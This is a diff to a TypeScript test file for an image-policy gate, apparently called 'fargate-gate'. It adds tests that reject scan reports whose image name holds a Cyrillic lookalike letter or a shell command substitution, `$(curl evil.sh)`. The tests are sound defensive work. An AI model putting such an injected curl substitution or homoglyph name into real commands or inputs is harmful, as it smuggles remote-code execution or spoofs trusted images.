@@ -150,6 +150,25 @@ describe('fargate-gate evaluate: a Grype report from before the fix object (Gryp
   });
 });
 
+describe('fargate-gate evaluate: an image name the images rule cannot read (policies/strict.json)', () => {
+  let tmp: ReturnType<typeof tempDir>;
+  beforeAll(() => (tmp = tempDir()));
+  afterAll(() => tmp.cleanup());
+  const STRICT = join(REPO_ROOT, 'policies/strict.json');
+
+  it.each([
+    ['a Cyrillic letter that looks Latin', `${TEAM_APP_IMAGE.replace('team/app', 'te\u0430m/app')}`],
+    ['shell metacharacters', `${TEAM_APP_IMAGE}$(curl evil.sh)`],
+  ])('fails a bare report whose image name has %s (exit 1), as a task definition naming it does', async (_label, name) => {
+    const report = trivyVariant(NONROOT, tmp.path('bad-name.json'), { artifactName: name, repoDigests: [] });
+    const bare = await cli(['evaluate', '--report', report, '--policy', STRICT, '--format', 'json']);
+    expect(bare.code).toBe(1);
+    const images = json(bare.stdout).violations.filter((v) => v.rule === 'images');
+    expect(images.map((v) => [v.id, v.action])).toEqual([['images.reference', 'deny']]);
+    expect(images[0].message).toContain(`the report names the image ${JSON.stringify(name)}, which is not a valid image reference`);
+  });
+});
+
 describe('fargate-gate evaluate: output formats', () => {
   it('table (default): decision, violations, no colour when stdout is not a terminal', async () => {
     const run = await cli(['evaluate', '--report', ROOT_CRITICAL]);
